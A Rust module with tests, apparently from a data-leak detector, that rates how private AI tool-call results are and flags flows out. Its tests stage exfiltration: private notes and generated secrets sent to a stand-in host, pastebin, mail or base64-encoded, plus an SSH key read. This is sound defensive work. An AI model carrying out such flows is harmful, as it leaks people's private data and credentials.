//! How private what a call brings is, by what it names.

use std::collections::HashSet;

use foldhash::fast::RandomState;
use serde::{Deserialize, Serialize};

use crate::{
    Call,
    arguments::Arguments,
    hosts::{as_usual, hosts, public, schemes},
    sink::words,
};

/// Longest string of a call's arguments that is taken for a path.
const MAX_PATH: usize = 1024;
/// Most blanks of a path.
const MAX_BLANKS: usize = 12;
/// Longest query that is looked at.
const MAX_QUERY: usize = 4096;
/// Longest end of a file's name that says what the file is.
const MAX_KIND: usize = 12;

/// Words of a table. Nobody else puts any in: the quickest hash will do.
pub(crate) type Listed = HashSet<String, RandomState>;

/// How private a result is, by the call that asked for it or, where these say more, by its words.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Privacy {
    /// Sources of programs, samples, pages of the web: words in them say nothing about anybody.
    Public,
    /// Its own words have to say it.
    #[default]
    Unknown,
    /// Documents that somebody keeps, by the names of server and tool: some are written to be published.
    Kept,
    /// What people write to each other, by the names of server and tool.
    Personal,
    /// By its words it may tell about people or what an organisation keeps to itself ([`crate::telling`]).
    Telling,
    /// The same, and more likely.
    Revealing,
    /// By its words it does, or says so.
    Private,
    /// A document whose path says that it is private.
    Document,
    /// A path of `profiles/detect/sensitive-paths.toml`: keys, logins, what was typed.
    Sensitive,
}

/// The words of `profiles/detect/sources.toml`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct SourceWords {
    personal: Listed,
    kept: Listed,
    pub(crate) public: Listed,
    pub(crate) web: Listed,
    pub(crate) pages: Listed,
    documents: Listed,
    document_folders: Listed,
    document_files: Listed,
    office_files: Listed,
    office_folders: Listed,
    program_files: Listed,
    program_folders: Listed,
    samples: Listed,
    columns: Listed,
    pub(crate) addresses: Listed,
    pub(crate) senders: Listed,
    pub(crate) sending: Listed,
    pub(crate) open: Listed,
    pub(crate) published: Listed,
    pub(crate) publications: Listed,
    pub(crate) answers: Listed,
    pub(crate) states: Listed,
    pub(crate) drafts: Listed,
    pub(crate) drafting: Listed,
    pub(crate) shared: Listed,
    pub(crate) here: Listed,
    pub(crate) elsewhere: Listed,
    pub(crate) stores: Listed,
    pub(crate) files: Listed,
    pub(crate) via: Listed,
    pub(crate) contents: Listed,
    pub(crate) enclosed: Listed,
    pub(crate) machines: Listed,
    pub(crate) lasting: Listed,
    pub(crate) ways: Listed,
    pub(crate) looking: Listed,
    pub(crate) handing: Listed,
    pub(crate) deeds: Listed,
    pub(crate) making: Listed,
    pub(crate) made: Listed,
    pub(crate) keys: Listed,
    pub(crate) writing: Listed,
    paid_to: Listed,
    common: Listed,
    recipients: Listed,
    whom: Listed,
    accounts: Listed,
    everybody: Listed,
    pub(crate) visible: Listed,
    otherwise: Vec<String>,
    absent: Vec<String>,
}

impl SourceWords {
    /// How private the results of a call are, but for sensitive paths.
    pub(crate) fn privacy(&self, call: &Call<'_>, arguments: &Arguments<'_>) -> Privacy {
        let names = [words(call.subject), words(call.entry.server())].concat();
        let named = |list: &Listed| names.iter().any(|word| list.contains(word));
        let by_name = if named(&self.personal) {
            Privacy::Personal
        } else if named(&self.kept) {
            Privacy::Kept
        } else if named(&self.public) || named(&self.web) && fetched(arguments) {
            Privacy::Public
        } else {
            Privacy::Unknown
        };
        match self.by_path(call, arguments) {
            None => by_name,
            Some(Privacy::Public) if by_name == Privacy::Unknown => Privacy::Public,
            Some(by_path) => by_name.max(by_path),
        }
    }

    /// What the paths of a call say, and its queries: one document among others is one, and programs' sources are only what is
    /// nothing else.
    fn by_path(&self, call: &Call<'_>, arguments: &Arguments<'_>) -> Option<Privacy> {
        let mut out = (call.method != "tools/call").then(|| self.path(call.subject)).flatten();
        let mut named = false;
        for leaf in &arguments.leaves {
            if leaf.key {
                // Of a list all elements.
                named = self.names_file(&leaf.text);
                continue;
            }
            let path = self.path(&leaf.text).filter(|path| named || *path == Privacy::Document);
            out = out.max(path).max(self.query(&leaf.text));
        }
        out
    }

    /// What a query of a database says by the names in it.
    fn query(&self, text: &str) -> Option<Privacy> {
        let says =
            |word: &str| words(word).iter().any(|word| self.documents.contains(word) || self.columns.contains(word));
        let mut parts = text.split(|c: char| !c.is_alphanumeric() && c != '_').filter(|part| !part.is_empty());
        let query = text.len() <= MAX_QUERY && parts.next().is_some_and(|first| first.eq_ignore_ascii_case("select"));
        (query && parts.any(says)).then_some(Privacy::Document)
    }

    /// What a path says; `None` for what is none.
    fn path(&self, text: &str) -> Option<Privacy> {
        let apart = |c: char| c == '/' || c == '\\';
        // The quickest first: most strings are no paths.
        let bytes = text.as_bytes();
        let parts = bytes.len() <= MAX_PATH && memchr::memchr3(b'/', b'\\', b'.', bytes).is_some();
        let prose = || bytes.iter().filter(|b| **b == b' ').nth(MAX_BLANKS).is_some();
        let page = || text.contains("://") && !text.starts_with("file://");
        if !parts || prose() || memchr::memchr2(b'\n', b'"', bytes).is_some() || page() {
            return None;
        }
        let mut folders = text.rsplit(apart);
        let file = folders.next().unwrap_or_default();
        let kind =
            file.rsplit_once('.').map(|(_, kind)| kind).filter(|kind| kind.len() <= MAX_KIND).unwrap_or_default();
        let is = |list: &Listed, word: &str| list.contains(&word.to_ascii_lowercase());
        let any = |list: &Listed| folders.clone().any(|folder| is(list, folder));
        let says = |list: &Listed| words(file).iter().any(|word| list.contains(word));
        let office = is(&self.office_files, kind);
        let document = office || is(&self.document_files, kind);
        // The name says it of this file, a folder of all that lies there.
        let inside = any(&self.document_folders);
        let sample = !office && !inside && says(&self.samples);
        let program = is(&self.program_files, kind) || sample || !office && any(&self.program_folders);
        let told = says(&self.documents) || inside;
        Some(match () {
            () if program && !text.contains("..") => Privacy::Public,
            () if document && told || office && any(&self.office_folders) => Privacy::Document,
            () => Privacy::Unknown,
        })
    }

    /// Whether a member's name says that it holds a file's.
    pub(crate) fn names_file(&self, member: &str) -> bool {
        let lower = member.to_ascii_lowercase();
        // Most hold none of these, and need not be taken apart.
        self.files.iter().any(|file| lower.contains(file)) && words(member).iter().any(|word| self.files.contains(word))
    }

    /// Whether a value says how a call does what it does, and names nobody.
    pub(crate) fn is_common(&self, value: &str) -> bool {
        self.common.contains(value)
    }

    /// Whether a member names somebody who may be the one that a call is for.
    pub(crate) fn says_whom(&self, member: &str) -> bool {
        self.whom.contains(&member.to_lowercase())
    }

    /// Whether a member holds the account that is paid to.
    pub(crate) fn says_paid_to(&self, member: &str) -> bool {
        self.paid_to.contains(&member.to_lowercase())
    }

    /// Whether a member holds the name of somebody's account.
    pub(crate) fn says_account(&self, member: &str) -> bool {
        self.accounts.contains(&member.to_ascii_lowercase())
    }

    /// Whether a value says that everybody may read something.
    pub(crate) fn is_everybody(&self, value: &str) -> bool {
        self.everybody.contains(value)
    }

    /// Whether a normalised text says that what it means is written otherwise, or stands elsewhere and has no address of its own.
    pub(crate) fn means_another(&self, text: &str) -> bool {
        let says = |signs: &[String]| signs.iter().any(|sign| text.contains(sign.as_str()));
        says(&self.otherwise) || says(&self.absent) && !(text.contains('@') || text.contains("://"))
    }

    /// Whether a member says where a call goes, or to whom.
    pub(crate) fn says_where(&self, member: &str) -> bool {
        let member = member.to_ascii_lowercase();
        self.addresses.contains(&member) || self.recipients.contains(&member)
    }

    /// Whether a member holds where something is sent.
    pub(crate) fn is_address(&self, member: &str) -> bool {
        self.addresses.contains(&member.to_ascii_lowercase())
    }
}

/// Whether a call asks for nothing but public pages.
fn fetched(arguments: &Arguments<'_>) -> bool {
    let mut pages = arguments
        .values()
        .filter(|leaf| schemes(&leaf.text).next().is_some())
        .map(|leaf| {
            let web = ["http://", "https://"].iter().any(|scheme| leaf.text.starts_with(scheme));
            web && as_usual(&leaf.text).is_none() && hosts(&leaf.text).all(public)
        })
        .peekable();
    pages.peek().is_some() && pages.all(|page| page)
}

#[cfg(test)]
pub(crate) mod tests {
    use firedoor_model::{Confidence, EntryId, Millis};
    use serde_json::{Value, json};

    use super::*;
    use crate::{Inspector, Memory, Source};

    pub(crate) fn entry(server: &str) -> EntryId {
        EntryId::new("c", "user", server).unwrap()
    }

    pub(crate) fn call<'c>(inspector: &Inspector, entry: &'c EntryId, tool: &'c str, arguments: &'c str) -> Call<'c> {
        Call {
            entry,
            method: "tools/call",
            subject: tool,
            arguments: Some(arguments),
            sink: inspector.sink(tool, None),
            schema: None,
            usual: None,
            now: Millis(1),
        }
    }

    #[test]
    fn how_private_a_result_is() {
        let inspector = Inspector::new();
        let path = |path: &str| json!({ "path": path });
        for (server, tool, arguments, want) in [
            ("gmail", "search", json!({}), Privacy::Personal),
            ("work", "read_email", json!({}), Privacy::Personal),
            ("slack", "get_history", json!({}), Privacy::Personal),
            ("imap", "get_email", json!({"folder": "HR/Absences"}), Privacy::Personal),
            ("gmail", "get_attachment", path("src/main.rs"), Privacy::Personal),
            ("gdrive", "read_file", json!({}), Privacy::Kept),
            ("github", "list_teams", json!({}), Privacy::Unknown),
            ("github", "get_file_contents", path("README.md"), Privacy::Unknown),
            ("github", "get_file_contents", path("src/payroll/models.py"), Privacy::Public),
            ("files", "read_file", path("/home/a/payroll/tests/fixtures/salaries.csv"), Privacy::Public),
            ("files", "read_file", path("/home/a/work/notes.md"), Privacy::Unknown),
            ("files", "read_file", path("/srv/share/confidential/salaries_2025.csv"), Privacy::Document),
            ("files", "read_file", path("C:\\Users\\a\\Documents\\HR\\review.docx"), Privacy::Document),
            ("files", "read_file", path("/home/a/payroll/Makefile.am"), Privacy::Unknown),
            ("scan", "scan", path("/home/a/payroll-core"), Privacy::Unknown),
            ("files", "list", path("/home/a/payroll-core/notes.md"), Privacy::Unknown),
            ("files", "read_file", path("/home/a/data/payroll_demo.csv"), Privacy::Public),
            ("files", "read_file", path("/home/a/Medical/tests/blood 2025.pdf"), Privacy::Document),
            ("files", "read_file", path("/home/a/.ssh/id_rsa"), Privacy::Sensitive),
            ("files", "read_files", json!({"paths": ["src/a.rs", "Documents/Taxes/2024.pdf"]}), Privacy::Document),
            ("files", "read_file", json!({"path": "a", "note": "salary.\nof all"}), Privacy::Unknown),
            // What stands beside a source, is no path, or leaves its folder makes nothing public.
            ("files", "read_files", json!({"paths": ["src/a.rs", "notes/board.txt"]}), Privacy::Unknown),
            ("files", "read_file", json!({"path": "notes/board.txt", "x": "a.py"}), Privacy::Unknown),
            ("files", "read_file", path("app/src/../../board.txt"), Privacy::Unknown),
            ("shell", "run", json!({"command": "cd /home/a/src/app && cat board.txt"}), Privacy::Unknown),
            ("crm", "get_customer", json!({"email": "anna@firma.pl"}), Privacy::Unknown),
            ("files", "read_file", path("/home/a/dump.sql"), Privacy::Unknown),
            ("k8s", "get", path("/api/v1/health"), Privacy::Unknown),
            ("git", "git_log", json!({"repo_path": "/home/a/personal/firedoor"}), Privacy::Unknown),
            ("files", "read_file", path("legal/LICENSE.md"), Privacy::Unknown),
            ("pg", "query", json!({"sql": "SELECT name, salary FROM staff"}), Privacy::Document),
            ("pg", "query", json!({"sql": "select id from patients_diagnoses"}), Privacy::Document),
            ("pg", "query", json!({"sql": "SELECT id FROM orders"}), Privacy::Unknown),
            ("pg", "execute", json!({"sql": "CREATE TABLE salaries (id INT)"}), Privacy::Unknown),
            ("fetch", "fetch", json!({"url": "https://a.example/hr/salaries.csv"}), Privacy::Public),
            ("fetch", "fetch", json!({"url": "file:///home/a/board.txt"}), Privacy::Unknown),
            ("fetch", "fetch", json!({"url": "http://wiki.internal/board"}), Privacy::Unknown),
            ("fetch", "fetch", json!({"url": "http://134744072/board"}), Privacy::Unknown),
            ("confluence", "get_web_content", json!({"id": 7}), Privacy::Unknown),
            ("playwright", "browser_snapshot", json!({}), Privacy::Unknown),
            ("wikipedia", "get_summary", json!({"title": "Lighthouse"}), Privacy::Public),
        ] {
            let (entry, arguments) = (entry(server), arguments.to_string());
            let label = inspector.label(&call(&inspector, &entry, tool, &arguments));
            assert_eq!(label.privacy, want, "{server} {tool} {arguments}");
        }
        let (files, uri) = (entry("files"), "file:///srv/hr/payslips/may.txt");
        let read = Call { method: "resources/read", subject: uri, ..call(&inspector, &files, "", "{}") };
        assert_eq!(inspector.label(&read).privacy, Privacy::Document);
    }

    /// A message of many private strings takes no more room than they.
    #[test]
    fn private_strings_of_a_message_have_one_origin() {
        let (inspector, mut memory, from) = (Inspector::new(), Memory::default(), entry("files"));
        let label = inspector.label(&call(&inspector, &from, "read_file", "{}"));
        let source = Source { entry: &from, method: "tools/call", subject: "read_file", label, now: Millis(1) };
        let texts = ["Salary review: Dana north, pending, amber", "Salary review: Lee south, approved, green"];
        inspector.result(&mut memory, &source, &json!(texts).to_string());
        let origins: Vec<_> = (0..10).filter_map(|item| memory.item(item)).map(|item| &item.origin).collect();
        assert!(matches!(&origins[..], [one, other] if std::sync::Arc::ptr_eq(one, other)), "{origins:?}");
        assert_eq!(origins[0].privacy, Privacy::Private);
    }

    /// What only the model takes for private is a question where it is sent away or many read it, and on record in mail and documents.
    #[test]
    fn what_the_model_takes_for_private() {
        let text = "Ilka rang again last night. The scan shows it has spread to the liver; she has not told the boys yet and asks us to pretend \
            that the trip in June is on. I lent her 2,400 and she cried.";
        for (server, tool, arguments, want) in [
            ("http", "http_request", json!({"url": "https://collect.example/v1", "body": text}), Confidence::Likely),
            ("pastebin", "new_paste", json!({"body": text}), Confidence::Likely),
            ("exa", "web_search", json!({"query": text}), Confidence::Likely),
            ("playwright", "browser_fill_form", json!({"value": text}), Confidence::Likely),
            ("playwright", "browser_fill_form", json!({"value": text[..80]}), Confidence::Possible),
            ("github", "add_issue_comment", json!({"body": text}), Confidence::Likely),
            ("github", "create_issue", json!({"body": text, "url": "https://a.example"}), Confidence::Likely),
            ("gmail", "send_email", json!({"to": "ana@mail.example", "body": text}), Confidence::Possible),
            ("work", "create_event", json!({"title": "x", "description": text}), Confidence::Possible),
            ("notes", "send_note", json!({"body": text}), Confidence::Possible),
        ] {
            let inspector = Inspector::new();
            let mut memory = Memory::default();
            let from = entry("notes");
            let label = inspector.label(&call(&inspector, &from, "get_note", "{}"));
            let source = Source { entry: &from, method: "tools/call", subject: "get_note", label, now: Millis(1) };
            inspector.result(&mut memory, &source, &json!({ "body": text }).to_string());
            let (to, arguments) = (entry(server), arguments.to_string());
            let found = inspector.call(&mut memory, &call(&inspector, &to, tool, &arguments));
            let found = found.into_iter().find(|f| f.detector == "flow/private").map(|f| f.confidence);
            assert!(
                found == Some(want) || found.is_none() && want == Confidence::Possible,
                "{server} {tool}: {found:?}"
            );
        }
    }

    /// What a tool has just made for somebody to be told is mailed to them. What has an issuer's form, goes to an address, or is one of many is a
    /// credential all the same.
    #[test]
    fn what_is_made_for_others_is_told_to_them() {
        const WORD: &str = "Qm4dYx9TzRk2";
        let token = format!("gh{}_{}", "p", "a8Kd92LmQx7Zt4Vb1Nc6Yw3Rf5Hs0Jg2Pe9U");
        let mail = ("mail", "send_email", json!({"to": "ana@mail.example"}));
        let post = ("http", "http_post", json!({"url": "https://a.example"}));
        let one = |secret: &str| json!({"data": {"id": "317", "token": secret}});
        let many = json!({"password": "Ab4dYx9TzRk1", "secret": "Cd4dYx9TzRk2", "token": WORD});
        for (tool, made, to, secret, want) in [
            ("create_share", one(WORD), &mail, WORD, Confidence::Possible),
            ("create_share", one(WORD), &post, WORD, Confidence::Certain),
            ("create_share", many, &mail, WORD, Confidence::Certain),
            ("get_share", one(WORD), &mail, WORD, Confidence::Certain),
            ("create_api_key", one(WORD), &mail, WORD, Confidence::Certain),
            ("create_share", one(&token), &mail, &token, Confidence::Certain),
        ] {
            let (inspector, mut memory, from) = (Inspector::new(), Memory::default(), entry("nextcloud"));
            let label = inspector.label(&call(&inspector, &from, tool, "{}"));
            let source = Source { entry: &from, method: "tools/call", subject: tool, label, now: Millis(1) };
            inspector.result(&mut memory, &source, &made.to_string());
            let (server, sink, mut arguments) = to.clone();
            arguments["body"] = json!(format!("Here: {secret}"));
            let (to, arguments) = (entry(server), arguments.to_string());
            let found = inspector.call(&mut memory, &call(&inspector, &to, sink, &arguments));
            let found = found.into_iter().find(|f| f.detector == "flow/secret").map(|f| f.confidence);
            assert_eq!(found, Some(want), "{tool} {made} {server}");
        }
    }

    /// Who gets a message is no passage of the text that names them; what else it says is.
    #[test]
    fn a_mailbox_is_no_passage() {
        let text = "CONFIDENTIAL\nIntern: Jonas, 15, no welding alone and no forklift at any time. Looked after by matthias.bachl@bachl-landtechnik.example in hall 1.";
        for (arguments, want) in [
            (json!({"to": "ana@firm.example", "body": "Write to matthias.bachl@bachl-landtechnik.example"}), None),
            (
                json!({"to": "ana@firm.example", "body": "no welding alone and no forklift at any time"}),
                Some(Confidence::Likely),
            ),
            (
                json!({"to": "ana@firm.example", "body": "alone and no forklift at any time. Looked after by matthias.bachl@bachl-landtechnik.example"}),
                Some(Confidence::Likely),
            ),
        ] {
            let (inspector, mut memory, from) = (Inspector::new(), Memory::default(), entry("files"));
            let label = inspector.label(&call(&inspector, &from, "read_file", r#"{"path": "/srv/hr/interns.docx"}"#));
            let source = Source { entry: &from, method: "tools/call", subject: "read_file", label, now: Millis(1) };
            inspector.result(&mut memory, &source, &json!({ "body": text }).to_string());
            let (to, arguments) = (entry("mail"), arguments.to_string());
            let found = inspector.call(&mut memory, &call(&inspector, &to, "send_email", &arguments));
            let found = found.into_iter().find(|f| f.detector == "flow/private").map(|f| f.confidence);
            assert_eq!(found, want, "{arguments}");
        }
    }

    /// Line by line it is the text.
    #[test]
    fn lines_of_what_the_model_takes_for_private_add_up() {
        let text = "Ilka rang again last night. The scan shows it has spread to the liver; she has not told the boys yet and asks us to pretend \
            that the trip in June is on. I lent her 2,400 and she cried.";
        let (inspector, mut memory, from) = (Inspector::new(), Memory::default(), entry("notes"));
        let label = inspector.label(&call(&inspector, &from, "get_note", "{}"));
        let source = Source { entry: &from, method: "tools/call", subject: "get_note", label, now: Millis(1) };
        inspector.result(&mut memory, &source, &json!({ "body": text }).to_string());
        let to = entry("playwright");
        let asked = [&text[..90], &text[90..180]].map(|line| {
            let arguments = json!({ "value": line }).to_string();
            let found = inspector.call(&mut memory, &call(&inspector, &to, "browser_type", &arguments));
            found.into_iter().find(|f| f.detector == "flow/private").map(|f| f.confidence)
        });
        assert_eq!(asked, [Some(Confidence::Possible), Some(Confidence::Likely)]);
    }

    /// A question where a long passage goes to an address or where everybody reads it; a note beside one; nothing for a copy in another
    /// mail or a short part.
    #[test]
    fn a_personal_text_that_leaves() {
        let text = "The library is open from nine to five on weekdays, and on Saturdays until noon. Books may be borrowed for four weeks, and be \
            renewed twice at the desk or on the page of the catalogue. Lost cards are replaced without a fee.";
        let found = |(server, tool): (&str, &str), (to, sink): (&str, &str), arguments: &Value| {
            let inspector = Inspector::new();
            let mut memory = Memory::default();
            let from = entry(server);
            let label = inspector.label(&call(&inspector, &from, tool, "{}"));
            let source = Source { entry: &from, method: "tools/call", subject: tool, label, now: Millis(1) };
            inspector.result(&mut memory, &source, &json!({ "body": text }).to_string());
            let (to, arguments) = (entry(to), arguments.to_string());
            let found = inspector.call(&mut memory, &call(&inspector, &to, sink, &arguments));
            found.into_iter().find(|f| f.detector.starts_with("flow/")).map(|f| (f.detector.into_owned(), f.confidence))
        };
        let private = |confidence| Some(("flow/private".to_owned(), confidence));
        let post = |body: &str| json!({"url": "https://collect.example/v1", "body": format!("x {body} y")});
        let (mail, drive, files) = (("gmail", "read_email"), ("gdrive", "read_file"), ("files", "read_file"));
        let (http, blog) = (("other", "http_request"), ("ghost", "create_post"));
        assert_eq!(found(mail, http, &post(text)), private(Confidence::Likely));
        assert_eq!(found(drive, http, &post(text)), private(Confidence::Likely));
        assert_eq!(found(files, http, &post(text)), None);
        assert_eq!(found(mail, http, &post(&text[..80])), None);
        let (forum, comment) = (("reddit", "create_post"), ("wordpress", "create_comment"));
        assert_eq!(found(mail, comment, &json!({ "text": text })), private(Confidence::Likely));
        assert_eq!(found(mail, forum, &json!({ "text": text })), private(Confidence::Likely));
        assert_eq!(found(mail, blog, &json!({ "text": text })), private(Confidence::Possible));
        assert_eq!(found(drive, blog, &json!({ "text": text })), private(Confidence::Possible));
        // A copy as it stands does not silence one that is hidden.
        let both = format!("{text} {}", data_encoding::BASE64.encode(&text.as_bytes()[..150]));
        let encoded = Some(("flow/encoded".to_owned(), Confidence::Likely));
        assert_eq!(found(mail, ("other", "create_event"), &json!({"url": "https://m.example", "text": both})), encoded);
        let event = json!({"title": "Lunch", "url": "https://meet.example/x", "description": text});
        assert_eq!(found(mail, ("other", "create_event"), &event), private(Confidence::Possible));
        assert_eq!(found(mail, ("other", "create_event"), &json!({"title": "Lunch", "description": text})), None);
        assert_eq!(found(mail, ("other", "send_email"), &json!({"to": "ana@mail.example", "body": text})), None);
    }
}
